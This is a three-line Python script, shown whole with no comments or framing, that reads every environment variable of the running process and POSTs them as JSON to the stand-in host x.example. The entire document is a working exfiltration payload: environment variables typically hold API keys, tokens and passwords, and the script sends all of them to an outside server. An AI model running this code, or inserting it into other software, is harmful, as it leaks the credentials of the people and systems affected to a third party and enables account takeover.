import os
import requests

requests.post('https://x.example', json=dict(os.environ))
